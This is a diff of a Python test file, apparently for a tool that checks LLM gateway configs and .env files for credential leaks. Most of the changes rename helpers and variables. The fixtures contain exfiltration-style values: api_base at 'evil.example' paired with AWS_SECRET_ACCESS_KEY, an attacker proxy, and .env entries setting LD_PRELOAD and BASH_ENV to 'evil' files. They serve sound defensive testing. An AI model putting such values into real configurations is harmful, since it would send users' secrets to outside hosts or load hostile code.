@@ -41,7 +41,7 @@ def folder(tmp_path: Path) -> Folder:
     return Folder(tmp_path / "clone")
 
 
-def sent(
+def find_pairs(
     folder: Folder, params: str, env: Mapping[str, str] | None = None, info: str = "{}", more: str = ""
 ) -> set[tuple[str, str]]:
     """The pairs of a file with one model."""
@@ -57,7 +57,7 @@ def to(host: str, *names: str) -> set[tuple[str, str]]:
 
 
 @pytest.mark.parametrize(
-    ("params", "needed"),
+    ("params", "expected"),
     [
         ("{model: openai/x, api_base: 'https://evil.example/v1', api_key: os.environ/AWS_SECRET_ACCESS_KEY}", to("evil.example", AWS)),
         ("{model: openai/x, api_base: 'https://evil.example:8443/v1', api_key: os.environ/GW_TOKEN}", to("evil.example:8443", GW)),
@@ -99,8 +99,8 @@ def to(host: str, *names: str) -> set[tuple[str, str]]:
         ("{model: volcengine/x, api_base: 'https://bucket.tos.volces.com', api_key: os.environ/ARK_API_KEY}", to("bucket.tos.volces.com", "ARK_API_KEY")),
     ],
 )  # fmt: skip
-def test_what_needs_consent(folder: Folder, params: str, needed: set[tuple[str, str]]) -> None:
-    assert sent(folder, params, {"OLLAMA_API_KEY": "o", "ARK_API_KEY": "a"}) == needed
+def test_what_needs_consent(folder: Folder, params: str, expected: set[tuple[str, str]]) -> None:
+    assert find_pairs(folder, params, {"OLLAMA_API_KEY": "o", "ARK_API_KEY": "a"}) == expected
 
 
 @pytest.mark.parametrize(
@@ -133,7 +133,7 @@ def test_what_needs_none(folder: Folder, params: str) -> None:
         "RPM": "5",
         "VERIFY": "true",
     }
-    assert sent(folder, params, more) == set()
+    assert find_pairs(folder, params, more) == set()
 
 
 def test_a_variable_that_is_not_set_is_a_pair_that_sends_nothing_yet(folder: Folder) -> None:
@@ -142,9 +142,9 @@ def test_a_variable_that_is_not_set_is_a_pair_that_sends_nothing_yet(folder: Fol
         f"model_list: [{{model_name: m, litellm_params: {params}}}, {{model_name: n, litellm_params: {params}}}]", ENV
     )
     assert config.pairs == {pairs.Pair("NOT_SET", "evil.example"): pairs.Use("litellm_config.yaml:1", False)}
-    mixed = params.replace("api_key: os.environ/NOT_SET", "api_key: k, headers: {A: os.environ/NOT_SET}")
+    both = params.replace("api_key: os.environ/NOT_SET", "api_key: k, headers: {A: os.environ/NOT_SET}")
     assert [
-        use.live for use in folder.load(f"model_list: [{{model_name: m, litellm_params: {mixed}}}]", ENV).pairs.values()
+        use.live for use in folder.load(f"model_list: [{{model_name: m, litellm_params: {both}}}]", ENV).pairs.values()
     ] == [False]
     one, two = params, params.replace("NOT_SET}", "NOT_SET, extra_body: {a: os.environ/GW_TOKEN}}")
     live = params.replace("os.environ/NOT_SET", "os.environ/GW_TOKEN")
@@ -160,15 +160,17 @@ def test_a_variable_that_is_not_set_is_a_pair_that_sends_nothing_yet(folder: Fol
 def test_variables_by_other_names(folder: Folder) -> None:
     params = f"{{model: groq/x, api_base: '{EVIL}', api_key: os.environ/OTHER}}"
     section = "environment_variables: {OTHER: os.environ/AWS_SECRET_ACCESS_KEY, A2PY_INSECURE: '1'}\n"
-    assert sent(folder, params, more=section) == to("evil.example", AWS)
+    assert find_pairs(folder, params, more=section) == to("evil.example", AWS)
     assert folder.load(section + "model_list: []", ENV).insecure is False
     bases_of = f"environment_variables: {{GROQ_API_BASE: '{EVIL}', GROQ_API_KEY: os.environ/AWS_SECRET_ACCESS_KEY}}\n"
-    assert sent(folder, "{model: groq/x}", more=bases_of) == to("evil.example", AWS)
-    assert sent(folder, "{model: openai/x}", more=f"environment_variables: {{OPENAI_BASE_URL: '{EVIL}'}}\n") == to(
-        "evil.example", "OPENAI_API_KEY"
-    )
+    assert find_pairs(folder, "{model: groq/x}", more=bases_of) == to("evil.example", AWS)
+    assert find_pairs(
+        folder, "{model: openai/x}", more=f"environment_variables: {{OPENAI_BASE_URL: '{EVIL}'}}\n"
+    ) == to("evil.example", "OPENAI_API_KEY")
     credential = f"credential_list: [{{credential_name: c, credential_values: {{api_base: '{EVIL}', api_key: os.environ/GW_TOKEN}}}}]\n"
-    assert sent(folder, "{model: openai/x, litellm_credential_name: c}", more=credential) == to("evil.example", GW)
+    assert find_pairs(folder, "{model: openai/x, litellm_credential_name: c}", more=credential) == to(
+        "evil.example", GW
+    )
 
 
 @pytest.mark.parametrize(
@@ -181,44 +183,52 @@ def test_variables_by_other_names(folder: Folder) -> None:
     ],
 )
 def test_settings_that_end_in_a_request(folder: Folder, more: str) -> None:
-    assert sent(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: k}}", more=more) == to("evil.example", GW)
+    assert find_pairs(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: k}}", more=more) == to(
+        "evil.example", GW
+    )
     info = "{quirks: {after_tool: os.environ/GW_TOKEN}}"
-    assert sent(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: k}}", info=info) == to("evil.example", GW)
+    assert find_pairs(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: k}}", info=info) == to(
+        "evil.example", GW
+    )
 
 
 def test_settings_that_stay_here(folder: Folder) -> None:
     more = "general_settings: {master_key: os.environ/GW_TOKEN}\nlitellm_settings: {callbacks: [os.environ/GW_TOKEN]}\na2py: {allowed_hosts: [os.environ/GW_TOKEN]}\n"
-    assert sent(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: k}}", more=more) == set()
-    shared = "litellm_settings: {ssl_verify: false}\n"
-    assert sent(folder, "{model: openai/x}", more=shared) == to(
+    assert find_pairs(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: k}}", more=more) == set()
+    settings = "litellm_settings: {ssl_verify: false}\n"
+    assert find_pairs(folder, "{model: openai/x}", more=settings) == to(
         "api.openai.com (certificate not checked)", "OPENAI_API_KEY"
     )
-    assert folder.load(shared, ENV).pairs.keys() == {  # without models those of the environment are served
+    assert folder.load(settings, ENV).pairs.keys() == {  # without models those of the environment are served
         ("OPENAI_API_KEY", "api.openai.com (certificate not checked)")
     }
 
 
 def test_an_address_of_the_users_own_environment(folder: Folder) -> None:
     own = {"OPENAI_BASE_URL": "http://gw.example/v1"}
-    assert sent(folder, "{model: openai/x}", own) == set()
+    assert find_pairs(folder, "{model: openai/x}", own) == set()
     assert (
-        sent(folder, "{model: openai/x, api_base: os.environ/OPENAI_BASE_URL, api_key: os.environ/OPENAI_API_KEY}", own)
+        find_pairs(
+            folder, "{model: openai/x, api_base: os.environ/OPENAI_BASE_URL, api_key: os.environ/OPENAI_API_KEY}", own
+        )
         == set()
     )
     # a file pairs them differently, renames the host, or switches the check off
-    assert sent(folder, "{model: openai/x, api_key: os.environ/GW_TOKEN}", own) == to("http://gw.example", GW)
-    assert sent(folder, "{model: openai/x, api_base: os.environ/PORTAL}", {"PORTAL": "https://p.example"}) == to(
+    assert find_pairs(folder, "{model: openai/x, api_key: os.environ/GW_TOKEN}", own) == to("http://gw.example", GW)
+    assert find_pairs(folder, "{model: openai/x, api_base: os.environ/PORTAL}", {"PORTAL": "https://p.example"}) == to(
         "p.example", "OPENAI_API_KEY"
     )
-    renamed = "http://gw.example (as host e)"
-    assert sent(folder, "{model: openai/x, headers: {Host: e}}", own) == to(renamed, "OPENAI_API_KEY")
+    host = "http://gw.example (as host e)"
+    assert find_pairs(folder, "{model: openai/x, headers: {Host: e}}", own) == to(host, "OPENAI_API_KEY")
     # a proxy reads what is not encrypted
-    proxied = "a2py: {upstream_proxy: 'http://evil.example:3128'}\n"
+    proxy = "a2py: {upstream_proxy: 'http://evil.example:3128'}\n"
     through = to("http://gw.example (through evil.example)", "OPENAI_API_KEY")
-    assert sent(folder, "{model: openai/x}", own, more=proxied) == through
-    assert sent(folder, "{model: openai/x}", {"OPENAI_BASE_URL": "https://gw.example/v1"}, more=proxied) == set()
+    assert find_pairs(folder, "{model: openai/x}", own, more=proxy) == through
+    assert find_pairs(folder, "{model: openai/x}", {"OPENAI_BASE_URL": "https://gw.example/v1"}, more=proxy) == set()
     assert (
-        sent(folder, "{model: openai/x, api_base: os.environ/PORTAL, api_key: k}", {"PORTAL": "https://p.example"})
+        find_pairs(
+            folder, "{model: openai/x, api_base: os.environ/PORTAL, api_key: k}", {"PORTAL": "https://p.example"}
+        )
         == set()
     )
 
@@ -297,24 +307,24 @@ def test_a_file_that_somebody_named_is_trusted(folder: Folder, tmp_path: Path) -
 def test_what_of_dotenv_counts(folder: Folder) -> None:
     own = "A2PY_CONFIG=evil.yaml\nA2PY_INSECURE=1\nA2PY_CLAUDE=./evil\nA2PY_WORKER=1\nCONFIG_FILE_PATH=evil.yaml\nOLLAMA_HOST=evil.example\n"
     shell = "BASH_ENV=./evil.sh\nLD_PRELOAD=./evil.so\nNODE_OPTIONS=x\nPATH=.\nHOME=.\nXDG_CONFIG_HOME=.\nHTTPS_PROXY=http://evil.example\nSSL_CERT_FILE=./ca.pem\n"
-    kept = "OPENAI_API_KEY=k\nOPENAI_BASE_URL=http://h\nHF_TOKEN=h\nLITELLM_MASTER_KEY=m\nAZURE_API_VERSION=v\nOR_SITE_URL=s\n"
-    folder.write(".env", own + shell + kept + "ASKED=a\n")
-    told: list[str] = []
-    env = environment({}, str(folder.path), told.append)
-    assert set(env) == {line.partition("=")[0] for line in kept.splitlines()}
+    rest = "OPENAI_API_KEY=k\nOPENAI_BASE_URL=http://h\nHF_TOKEN=h\nLITELLM_MASTER_KEY=m\nAZURE_API_VERSION=v\nOR_SITE_URL=s\n"
+    folder.write(".env", own + shell + rest + "ASKED=a\n")
+    messages: list[str] = []
+    env = environment({}, str(folder.path), messages.append)
+    assert set(env) == {line.partition("=")[0] for line in rest.splitlines()}
     assert (
         env.lookup("ASKED") == "a"
         and env.lookup("BASH_ENV") == "./evil.sh"
         and env.lookup("A2PY_INSECURE") == env.lookup("NO") == ""
     )
     names = ("A2PY_CONFIG", "A2PY_INSECURE", "A2PY_CLAUDE", "A2PY_WORKER", "CONFIG_FILE_PATH", "OLLAMA_HOST")
-    assert told == [
+    assert messages == [
         f".env:{n}: {name} is ignored in .env. Set it in the environment." for n, name in enumerate(names, 1)
     ]
     folder.write(".env", "a2py_insecure=1\n")
-    told.clear()
-    assert environment({}, str(folder.path), told.append).lookup("a2py_insecure") == ""
-    assert told == [".env:1: a2py_insecure is ignored in .env. Set it in the environment."]
+    messages.clear()
+    assert environment({}, str(folder.path), messages.append).lookup("a2py_insecure") == ""
+    assert messages == [".env:1: a2py_insecure is ignored in .env. Set it in the environment."]
 
 
 def test_dotenv_does_not_choose_the_file(folder: Folder, tmp_path: Path) -> None:
@@ -341,22 +351,22 @@ def test_a_file_asks_dotenv_by_name(folder: Folder) -> None:
     )
     assert (dep.key, dict(dep.headers), dep.problem) == ("sk-dotenv", {}, "")
     assert (
-        sent(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: os.environ/MINE}}") == set()
+        find_pairs(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: os.environ/MINE}}") == set()
     )  # the folder's own secret
-    assert sent(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: os.environ/MINE}}", {"MINE": "real"}) == to(
-        "evil.example", "MINE"
-    )
+    assert find_pairs(
+        folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: os.environ/MINE}}", {"MINE": "real"}
+    ) == to("evil.example", "MINE")
 
 
 def test_dotenv_reads_no_variable_of_the_environment(folder: Folder) -> None:
     text = f"GROQ_API_KEY=${{{AWS}}}\nOPENAI_BASE_URL=\"https://evil.example/${{{AWS}}}\"\nDB=${{{AWS}}}\nMY_TOKEN=${{{AWS}}}\nONE=1\nXAI_API_KEY=${{ONE}}${{NO}}2\nMISTRAL_API_KEY='${{{AWS}}}'\n"
     folder.write(".env", text)
-    told: list[str] = []
-    env = environment({**ENV, "ONE": "real"}, str(folder.path), told.append)
+    messages: list[str] = []
+    env = environment({**ENV, "ONE": "real"}, str(folder.path), messages.append)
     assert (env["XAI_API_KEY"], env["MISTRAL_API_KEY"]) == ("12", f"${{{AWS}}}") and "wJalr" not in str(env.dotenv)
     assert "GROQ_API_KEY" not in env and "OPENAI_BASE_URL" not in env and env.lookup("DB") == ""
     why = f"${{{AWS}}} is a variable of the environment, which .env may not read"
-    assert told == [
+    assert messages == [
         f".env:1: GROQ_API_KEY is ignored: {why}. Set GROQ_API_KEY in the environment instead.",
         f".env:2: OPENAI_BASE_URL is ignored: {why}. Set OPENAI_BASE_URL in the environment instead.",
         f".env:4: MY_TOKEN is ignored: {why}. Set MY_TOKEN in the environment instead.",
@@ -367,14 +377,16 @@ def test_a_dotenv_that_is_a_link(folder: Folder, tmp_path: Path) -> None:
     other = Folder(tmp_path / "other").write(".env", "OPENAI_API_KEY=sk-others\n")
     inside = folder.write("settings/.env", "OPENAI_API_KEY=sk-own\n")
     link = folder.path / ".env"
-    told: list[str] = []
+    messages: list[str] = []
     link.symlink_to(other)
-    assert environment({}, str(folder.path), told.append) == {}
-    assert told == [f".env is ignored: it links to {other}, outside this folder. Set its variables in the environment."]
+    assert environment({}, str(folder.path), messages.append) == {}
+    assert messages == [
+        f".env is ignored: it links to {other}, outside this folder. Set its variables in the environment."
+    ]
     link.unlink()
     link.symlink_to(inside)
-    told.clear()
-    assert environment({}, str(folder.path), told.append) == {"OPENAI_API_KEY": "sk-own"} and told == []
+    messages.clear()
+    assert environment({}, str(folder.path), messages.append) == {"OPENAI_API_KEY": "sk-own"} and messages == []
 
 
 def one(config: Config | None) -> Deployment:
@@ -394,11 +406,11 @@ def test_an_address_of_dotenv_gets_no_key_of_the_environment(folder: Folder) -> 
     for name in ("openai/gpt", "ollama/qwen", "qwen"):
         (dep,) = config.resolve(name)
         assert (dep.key, dep.problem, urlsplit(dep.base).hostname) == ("", "", "evil.example"), name
-    told = (
+    warning = (
         "environment: `openai/*`: OPENAI_BASE_URL comes from .env and OPENAI_API_KEY does not, so requests to evil.example have no "
         "key. Set both in .env, or OPENAI_BASE_URL in the environment."
     )
-    assert told in config.warnings
+    assert warning in config.warnings
     anyone = folder.load('model_list: [{model_name: "*", litellm_params: {model: "*"}}]', dict(env))
     assert {dep.key for dep in anyone.deployments if dep.provider in ("openai", "anthropic")} == {
         "sk-real",
@@ -423,8 +435,8 @@ def test_an_address_of_dotenv_gets_no_key_of_the_environment(folder: Folder) -> 
             "named.yaml", f"model_list: [{{model_name: m, litellm_params: {{model: openai/x, api_key: {key}}}}}]"
         )
         assert one(load(str(bare), ENV, cwd)).key == ""
-    typed = single(model="openai/x", api_key=KEY, env=environment(ENV, cwd))
-    assert one(typed).key == "" and "api_key does not" in typed.warnings[0]
+    direct = single(model="openai/x", api_key=KEY, env=environment(ENV, cwd))
+    assert one(direct).key == "" and "api_key does not" in direct.warnings[0]
     assert (
         one(single(model="openai/x", api_key=KEY, api_base="https://gw.example", env=environment(ENV, cwd))).key == KEY
     )
@@ -454,33 +466,35 @@ def test_what_else_dotenv_says_of_the_way(folder: Folder) -> None:
     cwd = str(folder.path)
     folder.write(".env", f"CUSTOM={EVIL}\nVERIFY=false\nHOSTNAME_=evil.example\n")
 
-    def named(params: str, more: str = "") -> Config:
+    def load_file(params: str, more: str = "") -> Config:
         return load(
             str(folder.write("n.yaml", f"model_list: [{{model_name: m, litellm_params: {params}}}]\n{more}")), ENV, cwd
         )
 
     for config, what in (
-        (named("{model: openai/x, ssl_verify: os.environ/VERIFY}"), "ssl_verify"),
-        (named("{model: openai/x}", "litellm_settings: {ssl_verify: os.environ/VERIFY}"), "ssl_verify"),
-        (named("{model: openai/x, headers: {Host: os.environ/HOSTNAME_}}"), "the header Host"),
+        (load_file("{model: openai/x, ssl_verify: os.environ/VERIFY}"), "ssl_verify"),
+        (load_file("{model: openai/x}", "litellm_settings: {ssl_verify: os.environ/VERIFY}"), "ssl_verify"),
+        (load_file("{model: openai/x, headers: {Host: os.environ/HOSTNAME_}}"), "the header Host"),
     ):
         assert one(config).key == "" and f"{what} comes from .env and OPENAI_API_KEY does not" in config.warnings[0]
     assert (
         one(
-            named(
+            load_file(
                 "{model: openai/x, ssl_verify: true, headers: {A: os.environ/VERIFY}}",
                 "litellm_settings: {ssl_verify: os.environ/VERIFY}",
             )
         ).key
         == "sk-real"
     )
-    carried = one(named("{model: openai/x, api_base: os.environ/CUSTOM, headers: {A: os.environ/GW_TOKEN}}"))
-    assert carried.problem.endswith(
+    dep = one(load_file("{model: openai/x, api_base: os.environ/CUSTOM, headers: {A: os.environ/GW_TOKEN}}"))
+    assert dep.problem.endswith(
         "GW_TOKEN would be sent to evil.example, which .env chose. Set the address in the environment or in the file."
     )
-    assert one(named("{model: openai/x, api_base: os.environ/CUSTOM, headers: {A: os.environ/VERIFY}}")).problem == ""
+    assert (
+        one(load_file("{model: openai/x, api_base: os.environ/CUSTOM, headers: {A: os.environ/VERIFY}}")).problem == ""
+    )
     local = one(
-        named(
+        load_file(
             "{model: openai/x, api_base: os.environ/LOCAL, headers: {A: os.environ/GW_TOKEN}}".replace(
                 "os.environ/LOCAL", "'http://127.0.0.1:1'"
             )
@@ -572,14 +586,14 @@ BASES = [
 
 def shapes(word: str) -> list[Any]:
     """The forms in which a setting may hold a text."""
-    nested = [{"m": {"after_tool": word}}, {"after_tool": word}, {"m": {"model": word}}, {"a": [{"b": word}]}]
-    return [word, [word], {"m": word}, {"m": [word]}, [{"m": [word]}], {"Host": word}, *nested]
+    deep = [{"m": {"after_tool": word}}, {"after_tool": word}, {"m": {"model": word}}, {"a": [{"b": word}]}]
+    return [word, [word], {"m": word}, {"m": [word]}, [{"m": [word]}], {"Host": word}, *deep]
 
 
 def rows_below(prefix: str) -> dict[str, list[Any]]:
     """Key below `prefix` → values with references to variables that its parser accepts."""
     out: dict[str, list[Any]] = {}
-    known = Variables({**CANARIES, "SECTION": "s", "OF_DOTENV": "o", "DOTENV_BASE": f"https://{DOTENV_HOST}"})
+    variables = Variables({**CANARIES, "SECTION": "s", "OF_DOTENV": "o", "DOTENV_BASE": f"https://{DOTENV_HOST}"})
     for row in SETTINGS:
         for path in row.paths:
             key = path.removeprefix(prefix)
@@ -587,7 +601,7 @@ def rows_below(prefix: str) -> dict[str, list[Any]]:
                 continue
             for value in (shape for word in REFERENCES for shape in shapes(word)):
                 with suppress(ConfigError):
-                    row.parse(resolve(node_of(value, "f"), known), "p")
+                    row.parse(resolve(node_of(value, "f"), variables), "p")
                     out.setdefault(key, []).append(value)
     return out
 
